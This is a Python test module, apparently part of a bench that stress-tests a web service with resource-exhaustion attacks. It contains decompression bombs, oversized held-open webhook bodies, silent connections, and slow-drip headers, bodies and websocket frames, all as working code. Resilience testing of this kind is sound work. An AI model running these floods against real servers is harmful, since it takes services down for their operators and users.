"""Requests that cost a server more than they cost the stranger: bombs, large bodies, and those that never end."""

import asyncio
import contextlib
import itertools
import zlib
from collections.abc import Awaitable, Callable, Iterator
from functools import cache, partial

from bench.strangers.wires import CHUNK, CUT_OFF, Target, Wire, addresses, frame, request, websocket, wire

BOMB = 1 << 30  # bytes that a body of 1 MB becomes
DOORS = ("/api/v1/auth/login", "/api/v1/webhooks/facebook", "/nowhere", "/health", "/socket.io/")
AT_ONCE = 10
ENCODINGS = ("gzip", "deflate", "br")
LARGE = 16 << 20  # bytes
SILENT_SECONDS = 12.0  # longer than a header may take
SLOW_SECONDS = 34.0  # longer than a body may take
ANSWER_WITHIN = 60.0  # seconds


@cache
def bomb(encoding: str) -> bytes:
    """Return a body of about 1 MB that becomes a thousand times as large: one block of zeros, over and over."""
    if encoding == "br":
        return bytes(1 << 20)  # nothing here writes Brotli; a server that would read it finds out on the way
    zeros = bytes(1 << 20)
    squeeze = zlib.compressobj(9, wbits=31 if encoding == "gzip" else 15)
    head = squeeze.compress(zeros) + squeeze.flush(zlib.Z_FULL_FLUSH)
    block = squeeze.compress(zeros) + squeeze.flush(zlib.Z_FULL_FLUSH)
    # The checksum at the end is that of two blocks: a server that gets so far has inflated all of it by then.
    return head + block * ((BOMB >> 20) - 1) + squeeze.flush()


async def bombs(target: Target, encoding: str) -> None:
    """Ten bombs at once on every door."""
    body = bomb(encoding)
    headers = (f"Content-Encoding: {encoding}", "Content-Type: application/json")
    sent = (
        once(target, address, request(target, "POST", door, *headers, body=body))
        for door, address in itertools.product(DOORS, addresses(AT_ONCE, network=3))
    )
    await asyncio.gather(*sent)


async def once(target: Target, address: str, data: bytes) -> None:
    """Send one request and wait for its answer."""
    with contextlib.suppress(*CUT_OFF):
        async with asyncio.timeout(ANSWER_WITHIN), wire(target, address) as connection:
            await connection.send(data)
            await connection.status()


async def large_webhooks(target: Target) -> None:
    """Fifty webhook bodies of 16 MB without a signature, all but their last byte."""
    body = bytes(LARGE)
    data = request(target, "POST", "/api/v1/webhooks/facebook", "Content-Type: application/json", body=body)[:-1]
    await asyncio.gather(*(held(target, address, data) for address in addresses(50, network=4)))


async def held(target: Target, address: str, data: bytes, seconds: float = SILENT_SECONDS) -> None:
    """Send this and hold the connection, for as long as the server lets it."""
    with contextlib.suppress(*CUT_OFF):
        async with asyncio.timeout(seconds), wire(target, address) as connection:
            for begins in range(0, len(data), CHUNK):
                await connection.send(data[begins : begins + CHUNK])
            await connection.ended()


async def silent(target: Target) -> None:
    """Five hundred connections from fifty addresses that say nothing."""
    await asyncio.gather(*(held(target, address, b"") for address in addresses(50, network=5) for _ in range(10)))


async def dripping(target: Target, data: bytes) -> None:
    """A hundred connections that send this a byte a second."""
    await asyncio.gather(*(drip(target, address, data) for address in addresses(50, network=6) for _ in range(2)))


async def drip(target: Target, address: str, data: bytes) -> None:
    """Send half at once and the rest a byte a second, until the server ends it."""
    with contextlib.suppress(*CUT_OFF):
        async with asyncio.timeout(SLOW_SECONDS), wire(target, address) as connection:
            await trickle(connection, data)


async def trickle(connection: Wire, data: bytes) -> None:
    """Send half at once and the rest a byte a second."""
    half = len(data) // 2
    await connection.send(data[:half])
    ended = asyncio.create_task(connection.ended())
    try:
        for number in range(half, len(data)):
            await asyncio.wait([ended], timeout=1)
            if ended.done():
                return
            await connection.send(data[number : number + 1])
    finally:
        ended.cancel()
        await asyncio.gather(ended, return_exceptions=True)


async def half_frames(target: Target) -> None:
    """A hundred websockets that send one frame a byte a second."""

    async def one(address: str) -> None:
        with contextlib.suppress(*CUT_OFF):
            async with asyncio.timeout(SLOW_SECONDS), websocket(target, address, signed_in=False) as socket:
                await trickle(socket, frame(b"4" + b"0" * 120))

    await asyncio.gather(*(one(address) for address in addresses(50, network=7) for _ in range(2)))


async def half_headers(target: Target) -> None:
    """Half of a header, then a byte a second."""
    await dripping(target, request(target, "GET", "/health", "X-Long: " + "x" * 100))


async def half_bodies(target: Target) -> None:
    """Half of a sign-in, then a byte a second."""
    body = b'{"email": "%s@example.test", "password": "x"}' % (b"a" * 100)
    await dripping(target, request(target, "POST", "/api/v1/auth/login", "Content-Type: application/json", body=body))


def _attacks() -> Iterator[tuple[str, Callable[[Target], Awaitable[None]]]]:
    for encoding in ENCODINGS:
        yield f"50 {encoding} bombs", partial(bombs, encoding=encoding)
    yield "50 webhooks of 16 MB", large_webhooks
    yield "500 silent connections", silent
    yield "half headers", half_headers
    yield "half bodies", half_bodies
    yield "half frames", half_frames


ATTACKS = dict(_attacks())
